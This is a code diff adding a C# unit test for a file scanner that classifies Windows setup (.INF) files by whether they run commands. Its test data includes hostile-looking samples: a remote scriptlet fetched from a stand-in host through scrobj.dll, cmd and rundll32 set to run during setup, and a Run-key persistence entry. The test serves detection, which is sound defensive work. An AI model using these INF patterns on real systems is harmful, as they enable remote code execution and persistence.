@@ -65,4 +65,23 @@ public sealed class ShortcutTests
         alone.Verdict.ShouldBe(verdict, Judged.Text(alone));
         Judged.Of(ZipMaker.Pack(("a", text))).Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
     }
+
+    [Theory]
+    [InlineData("[version]\nSignature=$chicago$\n[DefaultInstall_SingleUser]\nUnRegisterOCXs=U\n[U]\n%11%\\scrobj.dll,NI,http://a.example/a.sct\n", true)]
+    [InlineData("; a\r\n[Version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nRunPreSetupCommands = A:1, B\r\n[b]\r\ncmd /c x\r\n", true)]
+    [InlineData("[Version]\nSignature=x\n[DefaultInstall.NT]\nRunPostSetupCommands=A:1\n[A]\nrundll32 a.dll,b\n", true)]
+    [InlineData("[Version]\nSignature=x\n[DefaultInstall]\nAddReg=R\n[R]\nHKLM,\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\",x,,\"a.exe\"\n", true)]
+    [InlineData("[Version]\nSignature=x\nClass=Printer\n[Manufacturer]\n%M%=Models\n[Models]\n\"A\"=I,USBPRINT\\a\n[I]\nCopyFiles=@a.gpd\n", false)]
+    [InlineData("[Version]\nSignature=x\n[DefaultInstall]\nRegisterOCXs=R\n[R]\n%11%\\a.ocx\n", false)]
+    public void Complete_SetupInformation_IsJudgedByWhatItRuns(string text, bool runs)
+    {
+        foreach (var file in (byte[][])[Samples.Bytes(text), [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)]])
+        {
+            var report = Judged.Of(file);
+
+            report.MediaType.ShouldBe("application/x-setupscript");
+            report.Verdict.ShouldBe(runs ? Verdict.Suspicious : Verdict.Clean, Judged.Text(report));
+            report.Rules().Contains("shortcut.setup-runs").ShouldBe(runs);
+        }
+    }
 }
